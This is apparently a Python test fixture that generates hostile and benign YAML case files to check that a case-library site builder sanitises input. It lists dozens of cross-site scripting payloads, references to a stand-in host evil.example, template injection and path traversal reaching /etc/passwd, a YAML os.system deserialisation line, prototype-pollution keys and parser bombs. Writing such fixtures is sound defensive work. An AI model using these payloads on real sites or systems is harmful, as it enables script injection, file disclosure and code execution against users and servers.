"""A library of hostile files: markup in every field, bombs, lies; and good ones beside them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tests.test_document import ALIAS_BOMB, MERGE_BOMB

#: Each would set window.__xss, ask another host, or move the page, if it were more than text.
MARKUP = [
    "<script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "--></textarea></style></noscript><script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&amp;lt;svg onload=window.__xss=1&amp;gt;",
    '"><svg onload=window.__xss=1>',
    "' onmouseover='window.__xss=1' autofocus onfocus='window.__xss=1",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><style><a title='</style><svg onload=window.__xss=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><a title='--><svg onload=window.__xss=1>'>",
    "<noscript><p title='</noscript><svg onload=window.__xss=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><svg onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<body onload=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src='javascript:parent.__xss=1'></iframe>",
    "<object data='javascript:parent.__xss=1'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/a.png)'>x</p>",
    "<a href='https://example.org/' onclick='window.__xss=1' style='all:unset'>x</a>",
    "[x](javascript:window.__xss=1)",
    "[x](  JaVaScRiPt:window.__xss=1)",
    "[x](java&#10;script:window.__xss=1)",
    "[x](data:text/html,<script>window.__xss=1</script>)",
    "[x](vbscript:window.__xss)",
    "[x](//evil.example/a 'title\" onmouseover=\"window.__xss=1')",
    "[x]: javascript:window.__xss=1\n\n[x]",
    "<javascript:window.__xss=1>",
    '!!! note "<script>window.__xss=1</script>"\n    <svg onload=window.__xss=1>',
    "{{ self.__init__.__globals__ }} {% include '/etc/passwd' %} {{ 7 * 191 }}",
    '--8<-- "/etc/passwd"',
    "::: case_library",
    '*x*{: onclick="window.__xss=1" style="all:unset"}',
    "`<script>window.__xss=1</script>`",
    "${window.__xss=1} `${window.__xss=1}`",
    "';window.__xss=1;// \\\";window.__xss=1;//",
    '=HYPERLINK("https://evil.example") @SUM(1) +1 -1',
    "]]><script>window.__xss=1</script>",
    "line\u2028window.__xss=1//\u2029",
    "\\u003cscript>window.__xss=1\\u003c/script>",
    "[x](javascript&colon;window.__xss=1) <java\tscript&colon;window.__xss=1>",
    "<svg><a><set attributeName=href to=javascript:window.__xss=1></set><text>x</text></a></svg>",
    "</option></select></template></textarea></desc></svg><svg onload=window.__xss=1>",
    "<a id=cl-library-input name=documentElement href=https://a.example>x</a><form id=config>",
    "}, author = {x}, url={javascript:window.__xss=1}, x = {\nER  - \nTY  - JOUR",
    "\u2067\u05d0\u05d1 \u2066<b>x</b> &#x202e;&#1;\u200f",
    "constructor __proto__ toString",
]
#: A picture in prose is refused; elsewhere it must be text.
PICTURES = [
    "<img src=x onerror=window.__xss=1>",
    "![x](https://evil.example/a.png)",
    "<IMG SRC='https://evil.example/a.png'>",
]

#: Files that are refused, whatever is in the others.
REFUSED: list[bytes] = [
    ALIAS_BOMB.encode(),
    MERGE_BOMB.encode(),
    b"a: &a [*a]\n",
    b"title: !!python/object/apply:os.system ['touch /tmp/hostile']\n",
    b"title: !ENV HOME\n",
    b"title: !include /etc/passwd\n",
    b"tags: !!set {a, b}\n",
    b"title: !!binary aGVsbG8=\n",
    b"updated: !!timestamp 2026-11-22\n",
    b"title: a\ntitle: b\n",
    b"[" * 100_000,
    b"{" * 100_000,
    b"- " * 400_000,
    b"? " * 400_000,
    b"title: " + b"x" * 1_100_000,
    b"title: " + b"x" * 70_000,
    b"title: [" + b"a," * 30_000 + b"]",
    b"title: {zh: a, zh: b}\n",
    b"\ttitle: x\n",
    "title：家\n".encode(),
    b"title: a: b\n",
    b"--- a\n--- b\n",
    b"- a\n",
    b"text\n",
    b"",
    b"? [a]\n: b\n",
    b"__proto__: {polluted: 1}\ntitle: x\nsummary: x\nstatus: idea\n",
    "title: 邻里共享家，居民和物业\n".encode("gb18030"),
    "title: 邻里共享家\n".encode("utf-16"),
    "title: Café\n".encode("latin-1"),
    b"title: a\x00b\n",
    b"title: \x1b[2J\n",
    b"title: \xed\xa0\x80\n",
    b'title: "\\ud800"\n',
    "title: a\u202eb\n".encode(),
    b"title: a\xef\xbf\xbfb\n",
    b"\xff\xfe\x00\x00",
    b"%YAML 9.9\n---\ntitle: x\n",
    b"title: e" + "\u0301".encode() * 300_000,
    b"title: '" + b"\n" * 400_000,
    b"title: | x\n",
    b"<<: {title: x}\n",
]
_BASE = "title: x\nsummary: x\nstatus: idea\n"
REFUSED += [
    (_BASE + more).encode()
    for more in (
        "place: nowhere\n",
        "themes: [../../etc/passwd]\n",
        "related: [c:evil]\n",
        "media: [{file: ../../../etc/passwd, alt: x, credit: x}]\n",
        "media: [{file: /etc/passwd, alt: x, credit: x}]\n",
        "media: [{file: con.jpg, alt: x, credit: x}]\n",
        "media: [{file: missing.jpg, alt: x, credit: x}]\n",
        "updated: 2026-02-30\n",
        "period: {start: 2020, end: 2010}\n",
        "part_of: hostile-9999\n",
        "constructor: {prototype: x}\n",
        "template: evil.html\nicon: evil\n",
        "problem: 13800138000\n",
        "problem: write to somebody@example.org\n",
        "problem: '" + "[" * 10_000 + "'\n",
        "problem: '" + "<p>" * 5_000 + "'\n",
        "problem: '" + "- " * 5_000 + "'\n",
        "problem: '" + "``a`" * 4_000 + "'\n",
        "problem: ![x](https://evil.example/a.png)\n",
        "indicators: [{indicator: none, value: .nan, source: none}]\n",
        "indicators: [{indicator: none, value: 1e999, source: none}]\n",
    )
]


def full(text: str, prose: str) -> dict[str, Any]:
    """A case that says the same in every field where a writer may write."""
    return {
        "title": text,
        "summary": text,
        "aliases": [text],
        "sort_as": text,
        "license": text,
        "status": "running",
        "sources": [{"id": "hostile", "at": text}],
        "place": "hostile",
        "tags": [text],
        "period": {"start": "2020", "note": text},
        "problem": prose,
        "approach": prose,
        "steps": [{"title": text, "text": prose, "who": text, "date": "2020"}],
        "outcomes": [prose],
        "challenges": [{"text": prose, "response": prose}],
        "lessons": [prose],
        "sustainability": prose,
        "recognition": [prose],
        "indicators": [
            {"indicator": "hostile", "value": "3", "scope": text, "note": text, "source": "hostile"}
        ],
        "actors": [
            {"people": text, "sector": "residents", "does": text},
            {"organisation": "hostile", "sector": "community"},
        ],
        "methods": ["hostile"],
        "building_blocks": [{"name": text, "how": prose, "enabling": [text], "lesson": prose}],
        "replication": {"preconditions": [text], "people": text, "money": text, "adapt": [text]},
        "consent": [{"covers": "quotations", "scope": text, "date": "2020"}],
        "review": {"checked": "2020", "by": text},
    }


def reference(text: str) -> dict[str, Any]:
    """Reference records and settings that say the same."""
    several = "\n".join(MARKUP[:6])[:290]
    return {
        "library.yml": {
            "languages": ["en", "zh"],
            **dict.fromkeys(
                ("title", "headline", "summary", "about", "publisher", "contact"), text
            ),
        },
        "reference/places.yml": {"hostile": {"title": text, "type": several, "description": text}},
        "reference/organisations.yml": {"hostile": {"title": text, "contact": several}},
        "reference/methods.yml": {"hostile": {"title": text, "purpose": text, "suits": [text]}},
        "reference/indicators.yml": {
            "hostile": {"title": text, "counts": text, "unit": text, "summable": "true"}
        },
        "reference/sources.yml": {
            "hostile": {"title": text, "type": "book", "author": several, "publication": text}
        },
        "reference/synonyms.yml": {"groups": [[text, "x"]]},
    }


def library(good: int, every: int = 1) -> Iterator[tuple[str, bytes]]:
    """Names and bytes of the files of a library: `good` ones, of the hostile each `every`-th."""
    for name, data in reference(MARKUP[1]).items():
        yield name, _yaml(data)
    for number in range(good):
        told = {
            "title": f"Good case {number}",
            "summary": f"Neighbours built bench number {number}.",
            "status": "idea",
            "tags": [f"tag {number % 7}"],
            "related": [f"good-{(number + 1) % good}"] if good > 1 else [],
        }
        yield f"good/good-{number}.yml", _yaml(told)
    payloads = [(text, text) for text in MARKUP] + [(text, "plain") for text in PICTURES]
    hostile = [_yaml(full(text, prose)) for text, prose in payloads]
    hostile += [_yaml({**full("x", "x"), "title": {"zh": t, "en": t[::-1]}}) for t, _ in payloads]
    for number, content in enumerate([*hostile, *REFUSED]):
        if number % every == 0:
            yield f"hostile/hostile-{number}.yml", content


def write(folder: Path, good: int, every: int = 1) -> None:
    for name, content in library(good, every):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def _yaml(data: Any) -> bytes:
    return json.dumps(data, ensure_ascii=False).replace("\u2028", "\\u2028").encode()
